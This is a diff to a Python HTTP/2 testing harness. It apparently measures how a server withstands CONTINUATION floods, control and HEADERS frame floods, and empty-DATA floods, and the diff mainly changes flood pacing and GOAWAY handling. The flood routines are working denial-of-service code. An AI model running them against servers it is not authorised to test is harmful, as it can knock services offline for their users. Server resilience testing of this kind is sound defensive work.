@@ -130,7 +130,7 @@ class Conn:
     whenever the socket takes it.
     """
 
-    def __init__(self, port, settings=(), rcvbuf=None, auto_ack=True, window_updates=True, preface=True):
+    def __init__(self, port, settings=(), rcvbuf=None, auto_ack=True, window_updates=True):
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         if rcvbuf:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
@@ -154,15 +154,13 @@ class Conn:
         self.ping_acks = 0
         self.frames = {}
         self.statuses = {}
-        self.response_headers = {}
         self.resets = {}
         self.ended = set()
         self.data_bytes = {}
         self.hpack_error = None
         self.bytes_sent = 0
         self.bytes_received = 0
-        if preface:
-            self.send(PREFACE + settings_frame(settings))
+        self.send(PREFACE + settings_frame(settings))
 
     # writing
 
@@ -214,10 +212,14 @@ class Conn:
         return condition()
 
     def answered(self, stream_id):
-        """The stream got its final answer: a final status with END_STREAM, or a reset, or the connection ended."""
-        return (stream_id in self.resets or self.goaway is not None or self.closed
-                or (stream_id in self.ended and self.statuses.get(stream_id, 0) >= 200)
-                or self.statuses.get(stream_id, 0) >= 400)
+        """The stream has its answer: a final status with END_STREAM or an error status, a reset, a GOAWAY
+        that leaves it unprocessed, or the end of the connection."""
+        if stream_id in self.resets or self.closed:
+            return True
+        if self.goaway is not None and self.goaway["last_stream_id"] < stream_id:
+            return True
+        status = self.statuses.get(stream_id, 0)
+        return status >= 400 or (status >= 200 and stream_id in self.ended)
 
     def _receive(self):
         try:
@@ -309,7 +311,6 @@ class Conn:
         status = dict(fields).get(":status")
         if status is not None and (stream_id not in self.statuses or self.statuses[stream_id] < 200):
             self.statuses[stream_id] = int(status)
-            self.response_headers[stream_id] = [(n, v) for n, v in fields if not n.startswith(":")]
         if end_stream:
             self.ended.add(stream_id)
 
@@ -341,8 +342,11 @@ def stdin_released(timeout):
 
 
 def settle(conn, seconds):
-    """After an attack: reads for up to seconds, until the connection ends, to see the server's last word."""
-    conn.wait(lambda: False, seconds)
+    """After an attack: reads until the connection ends, to see the server's last word; for up to
+    seconds, or one second once a GOAWAY came (a graceful one may leave the connection open)."""
+    deadline = time.monotonic() + seconds
+    conn.wait(lambda: conn.goaway is not None, seconds)
+    conn.wait(lambda: False, min(1.0, max(0.0, deadline - time.monotonic())))
 
 
 # ---- well-behaved clients --------------------------------------------------------------------------
@@ -425,8 +429,7 @@ def cmd_bystander(args):
             failures.append(failure)
         else:
             ok += 1
-        if done == 1:
-            emit("event", {"serving": ok == 1})
+        emit("event", {"served": done, "ok": failure is None})
         if stdin_released(0.05):  # paces the requests too
             break
     emit("verdict", {"attack": "bystander", "requests": done, "ok": ok, "failures": failures[:5],
@@ -435,15 +438,32 @@ def cmd_bystander(args):
 
 # ---- floods ----------------------------------------------------------------------------------------
 
-def flood(conn, frames, batch, count, seconds, read):
-    """Writes count frames (batch at a time) within seconds, until the server ends it or stops reading."""
+def flood(conn, frames, batch, count, seconds, sync=None):
+    """Writes count frames within seconds, until the server ends the connection or stops reading.
+
+    A server that closes with some of the flood still unread in its socket answers with a TCP reset,
+    and a GOAWAY it had just written may be lost with it. So, unless sync is None (a client that reads
+    nothing), batches start at one frame and double up to batch, and the server gets to answer each:
+    sync "ping" sends a PING after a batch and waits for its ACK (the server has read all before it);
+    "pause" (inside a header block, where no other frame may come) reads for 20 ms.
+    """
     start = time.monotonic()
     sent = 0
-    while sent < count and time.monotonic() - start < seconds:
-        n = min(batch, count - sent)
-        if not conn.send(frames(sent, n), timeout=2.0, read=read):
+    size = 1 if sync else batch
+    ended = lambda: conn.closed or conn.goaway is not None
+    while sent < count and time.monotonic() - start < seconds and not ended():
+        n = min(size, count - sent)
+        if sync == "ping":
+            acks = conn.ping_acks
+            if not conn.send(frames(sent, n) + frame(PING, 0, 0, sent.to_bytes(8, "big")), timeout=2.0):
+                break
+            conn.wait(lambda: conn.ping_acks > acks, 1.0)
+        elif not conn.send(frames(sent, n), timeout=2.0, read=sync is not None):
             break
+        elif sync == "pause":
+            conn.wait(ended, 0.02)
         sent += n
+        size = min(batch, size * 2)
     return sent, now_ms(start)
 
 
@@ -460,7 +480,7 @@ def request_then(args, path, follow):
             out.append(follow(sid))
         return b"".join(out)
 
-    sent, ms = flood(conn, pairs, 50, args.streams, args.seconds, read=True)
+    sent, ms = flood(conn, pairs, 50, args.streams, args.seconds, sync="ping")
     settle(conn, 3)
     return conn, sent, ms
 
@@ -496,8 +516,8 @@ def cmd_continuation(args):
         one = frame(CONTINUATION, 0, 1, unit * (MAX_FRAME // len(unit)))
     else:
         one = frame(CONTINUATION, 0, 1)
-    sent, ms = flood(conn, lambda first, n: one * n, 64 if args.mode == "big" else 5000, args.frames, args.seconds,
-                     read=True)
+    sent, ms = flood(conn, lambda first, n: one * n, 64 if args.mode == "big" else 50000, args.frames, args.seconds,
+                     sync="pause")
     settle(conn, 3)
     emit("verdict", {"attack": "continuation-" + args.mode, "frames_sent": sent, "flood_ms": ms,
                      "header_block_bytes_sent": sent * (len(one) - 9) + len(block), **conn.summary()})
@@ -518,7 +538,7 @@ def cmd_control_flood(args):
         block = header_block(request_headers("/reset-flood", extra=[("X-Upper", "1")]))
         frames = lambda first, n: b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)
                                            for i in range(first, first + n))
-    sent, ms = flood(conn, frames, 2000, args.frames, args.seconds, read=False)
+    sent, ms = flood(conn, frames, 2000, args.frames, args.seconds)
     emit("event", {"flood_done": sent})
     conn.auto_ack = True
     settle(conn, 3)  # now it reads: what the server still had to say, and whether it had given up
@@ -532,7 +552,7 @@ def cmd_empty_data(args):
     conn.wait(lambda: conn.settings_seen, 3)
     conn.send(headers_frames(1, header_block(request_headers("/empty-data", "POST")), end_stream=False))
     one = frame(DATA, 0, 1)
-    sent, ms = flood(conn, lambda first, n: one * n, 5000, args.frames, args.seconds, read=True)
+    sent, ms = flood(conn, lambda first, n: one * n, 5000, args.frames, args.seconds, sync="ping")
     settle(conn, 3)
     emit("verdict", {"attack": "empty-data-flood", "frames_sent": sent, "flood_ms": ms, "stream": conn.stream(1),
                      **conn.summary()})
